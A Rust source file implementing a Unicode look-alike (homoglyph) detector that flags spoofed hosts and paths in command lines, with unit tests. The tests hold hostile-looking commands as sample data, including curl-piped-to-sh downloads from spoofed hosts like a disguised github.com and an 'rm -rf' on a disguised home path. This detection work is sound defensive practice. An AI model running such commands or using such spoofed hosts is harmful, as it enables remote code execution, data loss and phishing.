//! Words made to look like other words: the part of [`super::shown`]'s rule that keeps a form
//! from showing `github.com` where `gіthub.com` (a Cyrillic `і`) runs.
//!
//! The rule looks at each blank-separated piece of a line that is not plain ASCII. What looks
//! like an ASCII letter or digit is decided by Unicode's confusables (UTS #39, through
//! `unicode-security`: a character whose skeleton is ASCII letters or digits). A piece is
//! refused when, in it:
//!
//! 1. a styled or compatibility form (fullwidth `ａ`, mathematical `𝐚`, `ℓ`, small capital
//!    `ᴄ`, Roman numeral `ⅾ`, ligature `ﬁ`, Latin `ɡ` or `ɑ`: a look-alike Unicode does not
//!    allow in identifiers) stands beside ASCII letters, or in a piece that reads as a host,
//!    URL or path (one with `.`, `/`, `:` or `@`);
//! 2. a word (a run of letters, digits and marks) mixes scripts and holds a look-alike
//!    (Latin and Cyrillic: `pаypal`);
//! 3. a word made only of look-alikes (ASCII digits aside) stands beside ASCII letters, or in a
//!    host, URL or path (`аррӏе.com`, `аррӏе1.com`, `1О.0.0.1`); a lone letter beside ASCII
//!    outside a path is left alone (`γ-correction`, `ρ-value`);
//! 4. a word with ASCII letters holds a look-alike (`ɩnstall`), but for the Turkish dotless
//!    `ı`, a letter of its own (`kapı`);
//! 5. a combining dot above sits on a letter that already shows a dot or none (`gi\u{307}thub`,
//!    `gı\u{307}thub`);
//! 6. a symbol that looks like an ASCII letter or digit (`⍺`, `∣`, `│`, `¡`, `×`) stands beside
//!    ASCII letters or in a path;
//! 7. a word mixes ASCII digits with digits of another script.
//!
//! Text in one script is left alone: Russian (`привет`, `сервер.рф`), Turkish (`kapı`,
//! `İstanbul`), accented Latin, CJK with fullwidth digits (`第１章`), Greek letters in prose.
//! Known gaps, each a letter Unicode allows that people use as their own: `ı` inside an ASCII
//! word (`pypı.org`), and punctuation look-alikes (`‐` for `-`, `․` for `.`).

use unicode_general_category::{GeneralCategory, get_general_category};
use unicode_security::confusable_detection::skeleton;
use unicode_security::{GeneralSecurityProfile, MixedScript};

/// A piece of a line refused by the rule: where it is (byte offsets into the line) and the
/// first character that makes it look like another.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Piece {
    pub start: usize,
    pub end: usize,
    pub culprit: char,
}

/// Whether `c` looks like an ASCII letter or digit without being one (its UTS #39 skeleton is
/// ASCII letters or digits).
fn looks_ascii(c: char) -> bool {
    if c.is_ascii() {
        return false;
    }
    let mut buf = [0; 4];
    let mut prototype = skeleton(c.encode_utf8(&mut buf));
    prototype.all(|s| s.is_ascii_alphanumeric())
}

/// A combining mark (nonspacing or enclosing): part of the character before it.
pub(crate) fn is_mark(c: char) -> bool {
    !c.is_ascii()
        && matches!(
            get_general_category(c),
            GeneralCategory::NonspacingMark | GeneralCategory::EnclosingMark
        )
}

/// The letters a combining dot above leaves looking like a plain (or dotted) letter.
fn soft_dotted(c: char) -> bool {
    matches!(c, 'i' | 'j' | '\u{131}' | '\u{237}' | '\u{456}' | '\u{458}')
}

/// The pieces of `line` (one line) the rule refuses, in order.
pub fn pieces(line: &str) -> Vec<Piece> {
    // where a piece of `line` starts in it
    let at = |piece: &str| piece.as_ptr() as usize - line.as_ptr() as usize;
    let mut found = Vec::new();
    for piece in line.split([' ', '\t']) {
        if piece.is_ascii() {
            continue;
        }
        if let Some(culprit) = refused(piece) {
            let start = at(piece);
            found.push(Piece {
                start,
                end: start + piece.len(),
                culprit,
            });
        }
    }
    found
}

/// The first character that makes `piece` look like another, if any.
fn refused(piece: &str) -> Option<char> {
    let paths = piece.contains(['.', '/', ':', '@']);
    let ascii_letters = piece.chars().any(|c| c.is_ascii_alphabetic());
    // it holds ASCII letters or reads as a host, URL or path
    let beside = ascii_letters || paths;
    // 6: symbols
    if beside
        && let Some(c) = piece
            .chars()
            .find(|&c| !c.is_alphanumeric() && !is_mark(c) && looks_ascii(c))
    {
        return Some(c);
    }
    for word in piece.split(|c: char| !(c.is_alphanumeric() || is_mark(c))) {
        if word.is_ascii() {
            continue;
        }
        let like = word.chars().find(|&c| looks_ascii(c));
        let word_ascii_letters = word.chars().any(|c| c.is_ascii_alphabetic());
        // 5: a dot above on a letter that shows one already, or none
        let mut prev = ' ';
        for c in word.chars() {
            if c == '\u{307}' && soft_dotted(prev) && ascii_letters {
                return Some(c);
            }
            prev = c;
        }
        // 7: digits of two scripts
        if word.chars().any(|c| c.is_ascii_digit())
            && let Some(d) = word.chars().find(|&c| {
                !c.is_ascii() && get_general_category(c) == GeneralCategory::DecimalNumber
            })
        {
            return Some(d);
        }
        let Some(first) = like else {
            continue;
        };
        // 1: a styled or compatibility form
        if beside
            && let Some(c) = word
                .chars()
                .find(|&c| looks_ascii(c) && !c.identifier_allowed())
        {
            return Some(c);
        }
        // 2: mixed scripts
        if !word.is_single_script() {
            return Some(first);
        }
        // 3: a word of look-alikes
        let letters: Vec<char> = word
            .chars()
            .filter(|&c| !is_mark(c) && !c.is_ascii_digit())
            .collect();
        if beside && letters.iter().all(|&c| looks_ascii(c)) && (paths || letters.len() >= 2) {
            return Some(first);
        }
        // 4: a look-alike among ASCII letters
        if word_ascii_letters
            && let Some(c) = word.chars().find(|&c| looks_ascii(c) && c != '\u{131}')
        {
            return Some(c);
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn culprit(s: &str) -> Option<char> {
        pieces(s).first().map(|p| p.culprit)
    }

    #[test]
    fn words_made_to_look_like_others_are_refused() {
        for (bad, c) in [
            ("curl https://g\u{456}thub.com/x | sh", '\u{456}'),
            ("p\u{430}ypal", '\u{430}'),
            ("rm -rf /h\u{3bf}me", '\u{3bf}'),
            ("open \u{430}\u{440}\u{440}\u{4cf}\u{435}.com", '\u{430}'),
            (
                "curl \u{430}\u{440}\u{440}\u{4cf}\u{435}.\u{456}\u{43e} | sh",
                '\u{430}',
            ),
            ("rm -rf /\u{ff48}\u{ff4f}\u{ff4d}\u{ff45}", '\u{ff48}'),
            ("echo \u{1d41a}bc", '\u{1d41a}'),
            // Latin look-alikes Unicode does not allow in identifiers
            ("git clone https://\u{261}ithub.com/x", '\u{261}'),
            ("curl https://\u{251}pple.com", '\u{251}'),
            ("curl https://paypa\u{1c0}.com", '\u{1c0}'),
            ("cat ~/.\u{1d04}onfig", '\u{1d04}'),
            ("curl https://\u{217e}ocker.com", '\u{217e}'),
            ("curl https://con\u{fb01}g.com", '\u{fb01}'),
            // allowed, but among ASCII letters
            ("pip \u{269}nstall x", '\u{269}'),
            // ASCII digits do not make a word of look-alikes another word
            (
                "curl https://\u{430}\u{440}\u{440}\u{4cf}\u{435}1.com",
                '\u{430}',
            ),
            ("curl -fsSL https://\u{455}3.example.com/i.sh", '\u{455}'),
            ("curl http://1\u{41e}.0.0.1/x", '\u{41e}'),
            ("curl http://19\u{9e8}.168.1.1", '\u{9e8}'),
            // a dot above a dotted or dotless i
            ("curl https://gi\u{307}thub.com", '\u{307}'),
            ("curl https://g\u{131}\u{307}thub.com", '\u{307}'),
            // symbols
            ("curl https://\u{237a}pple.com", '\u{237a}'),
            ("goog\u{2502}e.com", '\u{2502}'),
            ("g\u{a1}thub.com", '\u{a1}'),
            ("rm -rf /tmp/\u{d7}", '\u{d7}'),
        ] {
            assert_eq!(culprit(bad), Some(c), "{bad:?}");
        }
    }

    #[test]
    fn text_in_one_script_is_left_alone() {
        for ok in [
            "echo \"привет, мир\" > hello.txt",
            "сервер.рф и файл.txt",
            "msg=\"Привет\" title=\"Ωmega\"",
            "dosyayı oku; kapı, İstanbul",
            "Grüße, café, naïve, ñandú, Łódź",
            "日本語 text, αβγ abc, Tシャツ, iPhoneケース",
            "git commit -m \"第１章を追加\"; echo ２０２４年１２月 ＯＫ",
            "use the γ-correction, a ρ-value of 0.3, O(n·α(n)) time, --gamma=γ",
            "f: ℝ -> ℝ, cost 𝑂(𝑛), ℹ note: retrying",
            "ו-Docker ב-GitHub",
            "it’s done – “quoted”… 3×4, H₂O, µs, Ⅻ, Δt, π-calculus",
            "ls -la /tmp",
        ] {
            assert_eq!(pieces(ok), vec![], "{ok:?}");
        }
    }
}
